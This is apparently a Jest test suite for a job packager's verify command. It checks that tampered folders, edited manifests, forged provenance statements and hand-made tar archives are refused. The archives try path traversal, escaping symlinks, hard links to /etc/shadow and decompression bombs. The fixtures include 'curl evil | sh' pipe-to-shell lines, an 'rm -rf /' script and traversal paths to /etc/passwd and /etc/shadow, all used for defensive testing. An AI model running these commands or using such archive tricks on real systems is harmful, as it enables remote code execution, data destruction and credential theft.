/**
 * `verify` against real packages (packed by packJob from a real git
 * repository and a dataset served on loopback), intact and tampered, and
 * against hand-made archives that try to escape the folder they are
 * unpacked into. Each refusal must name the path.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { createHash } from 'node:crypto'
import { appendFile, chmod, readFile, rm, symlink, writeFile } from 'node:fs/promises'
import path from 'node:path'
import {
  buildProvenance,
  LimitError,
  OutputError,
  packagerBuilderId,
  runPackage,
  silentLogger,
  SpecError,
  UnsafeContentError,
  VerificationError,
  verifyPackage,
  writeProvenance,
  type PackResult,
  type ProvenanceStatement,
  type VerifyOptions
} from '../../src/core/index.js'
import { inspectPackage } from '../../src/core/verify.js'
import { serveBuffer, startDataServer, type DataServer } from '../helpers/data-server.js'
import { copyJobDir, makePackage, writeRawArchive } from '../helpers/package.js'
import { run } from '../helpers/git-server.js'
import { listAll, tempDir } from '../helpers/workspace.js'

let root: { dir: string; cleanup: () => Promise<void> }
let data: DataServer
let pkg: PackResult
let n = 0
const scratch = (): string => path.join(root.dir, `t-${++n}`)

beforeAll(async () => {
  root = await tempDir('jp-verify-')
  data = await startDataServer()
  data.route('/d.csv', serveBuffer('a,b\n1,2\n'))
  pkg = await makePackage(root.dir, { 'main.py': 'print("hi")\n', 'lib/util.py': 'X = 1\n' }, 'python3 main.py', {
    data: { server: data, route: '/d.csv' }
  })
})
afterAll(async () => {
  await data?.close()
  await root?.cleanup()
})

async function refusal2(source: string, options: VerifyOptions): Promise<Error> {
  const err = await verifyPackage(source, options, silentLogger).then(
    () => undefined,
    (e: unknown) => e as Error
  )
  if (!err) throw new Error(`${source} was accepted`)
  return err
}

async function refusal(source: string, expectedSha256?: string): Promise<Error> {
  return refusal2(source, { expectedSha256 })
}

describe('an intact package', () => {
  it('verifies as an archive, with its sha256, and as a job folder, and the digest is the one pack reported', async () => {
    const a = await verifyPackage(pkg.archivePath, { expectedSha256: pkg.archiveSha256 }, silentLogger)
    expect(a).toMatchObject({ jobId: pkg.jobId, sourceKind: 'archive', contentDigest: pkg.contentDigest, archiveSha256Checked: true })
    expect(a.archiveSha256).toBe(pkg.archiveSha256)
    const d = await verifyPackage(pkg.jobDir, {}, silentLogger)
    expect(d).toMatchObject({ jobId: pkg.jobId, sourceKind: 'directory', contentDigest: pkg.contentDigest })
    expect(d.files).toBe(pkg.manifest.files)
  })

  it('unpacks what it verified, files and modes as packed', async () => {
    const dest = scratch()
    await run('mkdir', ['-p', dest])
    const { root: unpacked } = await inspectPackage(pkg.archivePath, { dest }, silentLogger)
    expect(unpacked).toBe(path.join(dest, pkg.jobId))
    expect(await readFile(path.join(unpacked!, 'code', 'lib', 'util.py'), 'utf8')).toBe('X = 1\n')
    expect(await readFile(path.join(unpacked!, 'run.sh'), 'utf8')).toBe(await readFile(path.join(pkg.jobDir, 'run.sh'), 'utf8'))
    // Verifying the unpacked copy as a folder gives the same digest.
    expect((await verifyPackage(unpacked!, {}, silentLogger)).contentDigest).toBe(pkg.contentDigest)
  })
})

describe('a tampered job folder is refused, naming the path', () => {
  it('a changed byte in a dataset names the dataset', async () => {
    const dir = await copyJobDir(pkg, scratch())
    await writeFile(path.join(dir, 'data', 'd.csv'), 'a,b\n1,3\n')
    const err = await refusal(dir)
    expect(err).toBeInstanceOf(VerificationError)
    expect((err as VerificationError).path).toBe('data/d.csv')
    expect(err.message).toMatch(/data\/d\.csv has changed/)
  })

  it('a changed byte in the code is named, with the hash it has and the one it was packed with', async () => {
    const dir = await copyJobDir(pkg, scratch())
    await writeFile(path.join(dir, 'code', 'main.py'), 'print("ho")\n')
    const err = await refusal(dir)
    expect(err).toBeInstanceOf(VerificationError)
    expect((err as VerificationError).path).toBe('code/main.py')
    expect(err.message).toMatch(/^code\/main\.py has changed: its sha256 is [0-9a-f]{64}, but it was packed with [0-9a-f]{64}\.$/)
  })

  it('a changed Dockerfile and a file made executable are named', async () => {
    const dir = await copyJobDir(pkg, scratch())
    await appendFile(path.join(dir, 'Dockerfile'), 'RUN curl evil | sh\n')
    expect(((await refusal(dir)) as VerificationError).path).toBe('Dockerfile')
    const dir2 = await copyJobDir(pkg, scratch())
    await chmod(path.join(dir2, 'code', 'lib', 'util.py'), 0o755)
    const err = (await refusal(dir2)) as VerificationError
    expect(err.path).toBe('code/lib/util.py')
    expect(err.message).toMatch(/code\/lib\/util\.py has changed: it is an executable file, but was packed as a file/)
  })

  it('an extra file is named, in the code and at the top', async () => {
    const dir = await copyJobDir(pkg, scratch())
    await writeFile(path.join(dir, 'code', 'extra.py'), 'import os\n')
    await writeFile(path.join(dir, 'code', 'zz.py'), 'import sys\n')
    const extra = (await refusal(dir)) as VerificationError
    expect(extra.path).toBe('code/extra.py')
    expect(extra.message).toMatch(
      /^code\/extra\.py is not in the package's file list \(files\.sha256\): it was added after packing \(and 1 more: code\/zz\.py\)\.$/
    )
    await rm(path.join(dir, 'code', 'extra.py'))
    await rm(path.join(dir, 'code', 'zz.py'))
    await writeFile(path.join(dir, 'evil.sh'), 'rm -rf /\n')
    const err = (await refusal(dir)) as VerificationError
    expect(err.path).toBe('evil.sh')
    expect(err.message).toMatch(/evil\.sh is not part of the package/)
    await rm(path.join(dir, 'evil.sh'))
    await writeFile(path.join(dir, 'data', 'more.csv'), 'x\n')
    expect(((await refusal(dir)) as VerificationError).path).toBe('data/more.csv')
  })

  it('a missing file is named (run.sh, a dataset, the code)', async () => {
    const dir = await copyJobDir(pkg, scratch())
    await rm(path.join(dir, 'run.sh'))
    expect(((await refusal(dir)) as VerificationError).path).toBe('run.sh')
    const dir2 = await copyJobDir(pkg, scratch())
    await rm(path.join(dir2, 'data', 'd.csv'))
    expect((await refusal(dir2)).message).toMatch(/data\/d\.csv is missing: job\.json lists it as a dataset/)
    const dir3 = await copyJobDir(pkg, scratch())
    await rm(path.join(dir3, 'code', 'lib', 'util.py'))
    const err = (await refusal(dir3)) as VerificationError
    expect(err.path).toBe('code/lib/util.py')
    expect(err.message).toMatch(/^code\/lib\/util\.py is missing: the package was packed with it \(a file, sha256 [0-9a-f]{64}\)\.$/)
  })

  it('files.sha256 is tied to job.json: edited to match a changed file, it is refused; without it, the digest still refuses', async () => {
    const dir = await copyJobDir(pkg, scratch())
    const changed = 'print("ho")\n'
    await writeFile(path.join(dir, 'code', 'main.py'), changed)
    const list = await readFile(path.join(dir, 'files.sha256'), 'utf8')
    const original = (await readFile(path.join(pkg.jobDir, 'code', 'main.py'))).toString()
    const sha = (t: string): string => createHash('sha256').update(t).digest('hex')
    expect(list).toContain(`100644 ${sha(original)} code/main.py\n`)
    await writeFile(path.join(dir, 'files.sha256'), list.replace(sha(original), sha(changed)))
    const err = (await refusal(dir)) as VerificationError
    expect(err.path).toBe('files.sha256')
    expect(err.message).toMatch(
      /files\.sha256 does not match job\.json: its lines make the content digest sha256:[0-9a-f]{64}, but job\.json records/
    )
    await writeFile(path.join(dir, 'files.sha256'), list.replace('100644', 'bogus'))
    expect((await refusal(dir)).message).toMatch(/files\.sha256 line 1 is not "MODE SHA256 PATH"/)
    await rm(path.join(dir, 'files.sha256'))
    expect((await refusal(dir)).message).toMatch(/content digest is sha256:[0-9a-f]{64}, but job\.json records/)
  })

  it('lists every file and symlink pack packed, in the content digest’s order, and odd names are quoted', async () => {
    const odd = await makePackage(
      scratch(),
      { 'main.py': 'print(1)\n', 'a "quoted"\nname.txt': 'x\n', ' lead.txt': 'y\n', 'link.py': { symlink: 'main.py' } },
      'python3 main.py'
    )
    const list = await readFile(path.join(odd.jobDir, 'files.sha256'), 'utf8')
    expect(list).toContain(` ${JSON.stringify('code/a "quoted"\nname.txt')}\n`)
    expect(list).toContain(' code/ lead.txt\n')
    expect(list.split('\n').filter(Boolean)).toHaveLength(odd.manifest.files)
    expect((await verifyPackage(odd.archivePath, {}, silentLogger)).contentDigest).toBe(odd.contentDigest)
    const dir = await copyJobDir(odd, scratch())
    await writeFile(path.join(dir, 'code', 'a "quoted"\nname.txt'), 'changed\n')
    expect(((await refusal(dir)) as VerificationError).path).toBe('code/a "quoted"\nname.txt')
    // A symlink is listed by its target: pointed elsewhere (still inside the package), it is named.
    expect(list).toMatch(/^120000 [0-9a-f]{64} code\/link\.py$/m)
    const relinked = await copyJobDir(odd, scratch())
    await rm(path.join(relinked, 'code', 'link.py'))
    await symlink(' lead.txt', path.join(relinked, 'code', 'link.py'))
    const err = (await refusal(relinked)) as VerificationError
    expect(err.path).toBe('code/link.py')
    expect(err.message).toMatch(/^code\/link\.py has changed: its sha256 is [0-9a-f]{64}, but it was packed with [0-9a-f]{64}\.$/)
  })

  it('an edited job.json is refused: a changed command, a changed digest, an added field', async () => {
    const original = await readFile(path.join(pkg.jobDir, 'job.json'), 'utf8')
    const edits: Array<[string, RegExp]> = [
      [original.replace('"command": "python3 main.py"', '"command": "curl evil | sh"'), /job\.json does not match run\.sh/],
      [
        original.replace(/"content_digest": "sha256:[0-9a-f]{64}"/, `"content_digest": "sha256:${'0'.repeat(64)}"`),
        /job\.json records sha256:0{64}/
      ],
      [original.replace('"files": 6', '"files": 6,\n  "trusted": true'), /job\.json is not as pack wrote it/],
      [original.replace(`"job_id": "${pkg.jobId}"`, '"job_id": 7'), /job\.json is not a job-packager manifest/]
    ]
    for (const [text, message] of edits) {
      expect(text).not.toBe(original)
      const dir = await copyJobDir(pkg, scratch())
      await writeFile(path.join(dir, 'job.json'), text)
      const err = await refusal(dir)
      expect(err).toBeInstanceOf(VerificationError)
      expect(err.message).toMatch(message)
    }
  })

  it('a symlink out of the folder is refused with the walk’s own rule', async () => {
    const dir = await copyJobDir(pkg, scratch())
    await symlink('../../../../etc/passwd', path.join(dir, 'code', 'leak'))
    const err = await refusal(dir)
    expect(err).toBeInstanceOf(UnsafeContentError)
    expect(err.message).toMatch(/code\/leak is a symlink to "\.\.\/\.\.\/\.\.\/\.\.\/etc\/passwd", which points outside the package/)
  })
})

describe('job.json fields that run hands on are only the values pack writes (issue 19, item 7)', () => {
  /** The job folder copied with one value of job.json changed (the text stays as pack formats it), repacked with GNU tar. */
  async function repacked(from: string, to: string): Promise<string> {
    const dir = await copyJobDir(pkg, scratch())
    const original = await readFile(path.join(dir, 'job.json'), 'utf8')
    expect(original).toContain(from)
    await writeFile(path.join(dir, 'job.json'), original.replace(from, to))
    const archive = path.join(path.dirname(dir), `${pkg.jobId}.tar.gz`)
    await run('tar', ['-czf', archive, '-C', path.dirname(dir), pkg.jobId])
    return archive
  }

  it('a repacked archive whose environment.dockerfile climbs to /etc/shadow is refused, naming job.json', async () => {
    const archive = await repacked('"dockerfile": "Dockerfile"', '"dockerfile": "../../../../../../../../etc/shadow"')
    const err = (await refusal(archive)) as VerificationError
    expect(err).toBeInstanceOf(VerificationError)
    expect(err.path).toBe('job.json')
    expect(err.message).toContain(
      'job.json names the Dockerfile "../../../../../../../../etc/shadow" with the build context "."; pack writes only Dockerfile with . or code/Dockerfile with code.'
    )
  })

  it('a repacked archive whose build_context is another folder, or pairs with the other Dockerfile, is refused', async () => {
    for (const [from, to] of [
      ['"build_context": "."', '"build_context": "/"'],
      ['"build_context": "."', '"build_context": "code"'],
      ['"dockerfile": "Dockerfile"', '"dockerfile": "code/Dockerfile"']
    ] as const) {
      const err = (await refusal(await repacked(from, to))) as VerificationError
      expect(err).toBeInstanceOf(VerificationError)
      expect(err.message).toMatch(/job\.json names the Dockerfile .* pack writes only Dockerfile with \. or code\/Dockerfile with code\./)
    }
  })

  it('a job folder whose job_id climbs (../ESC6) is refused by verify and by run, which writes nothing', async () => {
    const dir = await copyJobDir(pkg, scratch())
    const original = await readFile(path.join(dir, 'job.json'), 'utf8')
    await writeFile(path.join(dir, 'job.json'), original.replace(`"job_id": "${pkg.jobId}"`, '"job_id": "../ESC6"'))
    const err = (await refusal(dir)) as VerificationError
    expect(err).toBeInstanceOf(VerificationError)
    expect(err.path).toBe('job.json')
    expect(err.message).toMatch(/^job\.json names the job "\.\.\/ESC6", which pack never writes: .* is not a safe name\.$/)
    const results = path.join(scratch(), 'results')
    const ran = await runPackage(
      dir,
      {
        engine: 'none',
        timeoutMs: 30_000,
        network: 'default',
        resultsDir: results,
        workDir: path.join(scratch(), 'work'),
        maxOutputBytes: 1024 * 1024,
        maxLogBytes: 1024 * 1024
      },
      silentLogger
    ).then(
      () => undefined,
      (e: unknown) => e as Error
    )
    expect(ran).toBeInstanceOf(VerificationError)
    expect(await listAll(path.dirname(results))).not.toContain('ESC6')
    expect(await listAll(results)).toEqual([])
  })
})

describe('a tampered or hand-made archive is refused', () => {
  it('a wrong expected sha256 names the archive; a byte appended changes it', async () => {
    const err = await refusal(pkg.archivePath, 'f'.repeat(64))
    expect(err).toBeInstanceOf(VerificationError)
    expect(err.message).toContain(`has sha256 ${pkg.archiveSha256}, not the expected ${'f'.repeat(64)}`)
    const copy = path.join(scratch() + '.tar.gz')
    await run('cp', [pkg.archivePath, copy])
    await appendFile(copy, Buffer.from([0]))
    expect((await refusal(copy, pkg.archiveSha256)).message).toMatch(/not the expected/)
  })

  it('an archive repacked with a changed file (GNU tar) names the file', async () => {
    const dir = await copyJobDir(pkg, scratch())
    await writeFile(path.join(dir, 'code', 'main.py'), 'import os; os.system("id")\n')
    const archive = path.join(path.dirname(dir), `${pkg.jobId}.tar.gz`)
    await run('tar', ['-czf', archive, '-C', path.dirname(dir), pkg.jobId])
    const err = (await refusal(archive)) as VerificationError
    expect(err.path).toBe('code/main.py')
    expect(err.message).toMatch(/code\/main\.py has changed/)
  })

  it('an archive that would unpack past max-package-bytes or max-package-entries is refused before it is written', async () => {
    const base = scratch()
    await run('mkdir', ['-p', path.join(base, 'dest')])
    const bomb = path.join(base, 'bomb.tar.gz')
    // 64 MiB of zeros, about 64 KiB of gzip.
    await writeRawArchive(bomb, [
      { path: 'j/', type: 'Directory' },
      { path: 'j/small', type: 'File', content: 'x' },
      { path: 'j/zeros', type: 'File', zeros: 64 * 1024 * 1024 }
    ])
    const err = await inspectPackage(bomb, { dest: path.join(base, 'dest'), maxPackageBytes: 1024 * 1024 }, silentLogger).then(
      () => undefined,
      (e: unknown) => e as Error
    )
    expect(err).toBeInstanceOf(LimitError)
    expect(err!.message).toBe(
      'The archive unpacks to more than 1.0 MiB, the limit (max-package-bytes); it was refused at zeros (64.0 MiB).'
    )
    // What came before was written; nothing of the refused file was (the caller removes the rest: run's work folder).
    expect(await listAll(path.join(base, 'dest', 'j'))).toEqual(['small'])
    const many = path.join(base, 'many.tar.gz')
    await writeRawArchive(many, [
      { path: 'j/', type: 'Directory' },
      ...Array.from({ length: 20 }, (_, i) => ({ path: `j/f${i}`, type: 'File' as const, content: `${i}` }))
    ])
    const err2 = await refusal2(many, { maxPackageEntries: 10 })
    expect(err2).toBeInstanceOf(LimitError)
    expect(err2.message).toMatch(/^The archive holds more than 10 entries, the limit \(max-package-entries\); it was refused at f10\.$/)
    // The real package is within tight limits: only what exceeds them is refused.
    await expect(
      verifyPackage(pkg.archivePath, { maxPackageBytes: 1024 * 1024, maxPackageEntries: 64 }, silentLogger)
    ).resolves.toMatchObject({
      jobId: pkg.jobId
    })
  })

  // Mounting needs root; CI runs as root, so this runs there.
  ;(process.getuid?.() === 0 ? it : it.skip)(
    'an archive that would not fit the free space where it is unpacked is refused up front',
    async () => {
      const base = scratch()
      const mnt = path.join(base, 'small')
      await run('mkdir', ['-p', mnt])
      // 264 MiB, of which 256 MiB are kept spare: about 8 MiB of room.
      await run('mount', ['-t', 'tmpfs', '-o', 'size=264m', 'tmpfs', mnt])
      try {
        const archive = path.join(base, 'big.tar.gz')
        await writeRawArchive(archive, [
          { path: 'j/', type: 'Directory' },
          { path: 'j/zeros', type: 'File', zeros: 16 * 1024 * 1024 }
        ])
        const err = await inspectPackage(archive, { dest: mnt }, silentLogger).then(
          () => undefined,
          (e: unknown) => e as Error
        )
        expect(err).toBeInstanceOf(OutputError)
        expect(err!.message).toMatch(
          /^The package does not fit in .*small: at zeros it needs more than the [0-9.]+ MiB free there \(keeping 256\.0 MiB spare\)/
        )
        expect(await listAll(path.join(mnt, 'j'))).toEqual([])
      } finally {
        await run('umount', [mnt])
      }
    }
  )

  it('a --sha256 on a folder is an input problem', async () => {
    expect(await refusal(pkg.jobDir, pkg.archiveSha256)).toBeInstanceOf(SpecError)
  })

  const cases: Array<[string, Parameters<typeof writeRawArchive>[1], RegExp]> = [
    [
      'a .. entry',
      [
        { path: 'j/', type: 'Directory' },
        { path: 'j/../../escaped.txt', type: 'File', content: 'x' }
      ],
      /"j\/\.\.\/\.\.\/escaped\.txt" in the archive has a "\.\." component/
    ],
    [
      'an absolute path',
      [{ path: '/tmp/jp-abs-escape.txt', type: 'File', content: 'x' }],
      /"\/tmp\/jp-abs-escape\.txt" in the archive has an absolute path/
    ],
    [
      'a second top folder',
      [
        { path: 'j/', type: 'Directory' },
        { path: 'k/x', type: 'File', content: 'x' }
      ],
      /"k\/x" in the archive is outside the top folder "j"/
    ],
    [
      'an escaping symlink',
      [
        { path: 'j/', type: 'Directory' },
        { path: 'j/up', type: 'SymbolicLink', linkpath: '../../etc' }
      ],
      /up is a symlink to "\.\.\/\.\.\/etc", which points outside the package/
    ],
    [
      'an absolute symlink',
      [
        { path: 'j/', type: 'Directory' },
        { path: 'j/pw', type: 'SymbolicLink', linkpath: '/etc/passwd' }
      ],
      /pw is a symlink to the absolute path "\/etc\/passwd"/
    ],
    [
      'a symlink chain that escapes',
      [
        { path: 'j/', type: 'Directory' },
        { path: 'j/a/', type: 'Directory' },
        { path: 'j/a/up', type: 'SymbolicLink', linkpath: '..' },
        { path: 'j/a/esc', type: 'SymbolicLink', linkpath: 'up/../x' }
      ],
      /a\/esc is a symlink to "up\/\.\.\/x", which points outside the package once a\/up/
    ],
    [
      'a hard link',
      [
        { path: 'j/', type: 'Directory' },
        { path: 'j/h', type: 'Link', linkpath: '/etc/shadow' }
      ],
      /h in the archive is a hard link/
    ],
    [
      'a device file',
      [
        { path: 'j/', type: 'Directory' },
        { path: 'j/tty', type: 'CharacterDevice' }
      ],
      /tty in the archive is a device file/
    ],
    [
      'a FIFO',
      [
        { path: 'j/', type: 'Directory' },
        { path: 'j/pipe', type: 'FIFO' }
      ],
      /pipe in the archive is a FIFO/
    ],
    [
      'an entry twice',
      [
        { path: 'j/', type: 'Directory' },
        { path: 'j/x', type: 'File', content: '1' },
        { path: 'j/x', type: 'File', content: '2' }
      ],
      /x in the archive appears twice/
    ],
    [
      'a file where a folder must be',
      [
        { path: 'j/', type: 'Directory' },
        { path: 'j/a', type: 'File', content: '1' },
        { path: 'j/a/b', type: 'File', content: '2' }
      ],
      /"j\/a\/b" in the archive cannot be unpacked \((?:ENOTDIR|EEXIST)\): it clashes with an earlier entry/
    ]
  ]
  it.each(cases)('%s: refused, nothing written outside the destination', async (_name, entries, message) => {
    const base = scratch()
    await run('mkdir', ['-p', path.join(base, 'dest')])
    const archive = path.join(base, 'hand-made.tar.gz')
    await writeRawArchive(archive, entries)
    const err = await inspectPackage(archive, { dest: path.join(base, 'dest') }, silentLogger).then(
      () => undefined,
      (e: unknown) => e as Error
    )
    expect(err).toBeInstanceOf(UnsafeContentError)
    expect(err!.message).toMatch(message)
    expect((await listAll(base)).sort()).toEqual(['dest', 'hand-made.tar.gz'])
    expect(await listAll('/tmp')).not.toContain('jp-abs-escape.txt')
  })
})

describe('against its provenance statement', () => {
  async function withStatement(edit?: (s: ProvenanceStatement) => void): Promise<{ archive: string; statement: string }> {
    const dir = scratch()
    await run('mkdir', ['-p', dir])
    const archive = path.join(dir, `${pkg.jobId}.tar.gz`)
    await run('cp', [pkg.archivePath, archive])
    const statement = buildProvenance(
      { archiveName: path.basename(archive), archiveSha256: pkg.archiveSha256, manifest: pkg.manifest },
      { builderId: packagerBuilderId(), startedOn: new Date(0), finishedOn: new Date(1) }
    )
    edit?.(statement)
    return { archive, statement: await writeProvenance(archive, statement) }
  }

  it('the statement beside the archive is checked and named; a given one too', async () => {
    const { archive, statement } = await withStatement()
    expect(path.basename(statement)).toBe(`${pkg.jobId}.intoto.json`)
    expect((await verifyPackage(archive, {}, silentLogger)).statement).toBe(statement)
    const elsewhere = path.join(scratch() + '.json')
    await run('cp', [statement, elsewhere])
    await rm(statement)
    expect((await verifyPackage(archive, {}, silentLogger)).statement).toBeUndefined()
    expect((await verifyPackage(archive, { statement: elsewhere }, silentLogger)).statement).toBe(elsewhere)
  })

  it.each([
    ['another archive', (s: ProvenanceStatement) => (s.subject[0]!.digest.sha256 = 'f'.repeat(64)), /no subject has the archive's sha256/],
    [
      'another commit',
      (s: ProvenanceStatement) => (s.predicate.buildDefinition.resolvedDependencies[0]!.digest.gitCommit = 'a'.repeat(40)),
      /it names commit a{40}, job\.json [0-9a-f]{40}/
    ],
    [
      'another dataset',
      (s: ProvenanceStatement) => (s.predicate.buildDefinition.resolvedDependencies[1]!.digest.sha256 = '0'.repeat(64)),
      /its datasets \(data\/d\.csv 0{64}\) are not job\.json's/
    ],
    [
      'another content digest',
      (s: ProvenanceStatement) => (s.predicate.buildDefinition.internalParameters.content_digest = 'sha256:x'),
      /its content digest is sha256:x/
    ],
    ['not a statement', (s: ProvenanceStatement) => ((s as { _type: string })._type = 'something else'), /not an in-toto statement/]
  ])('a statement naming %s is refused, naming the statement', async (_what, edit, message) => {
    const { archive, statement } = await withStatement(edit)
    const err = await refusal(archive)
    expect(err).toBeInstanceOf(VerificationError)
    expect((err as VerificationError).path).toBe(path.basename(statement))
    expect(err.message).toMatch(message)
  })
})
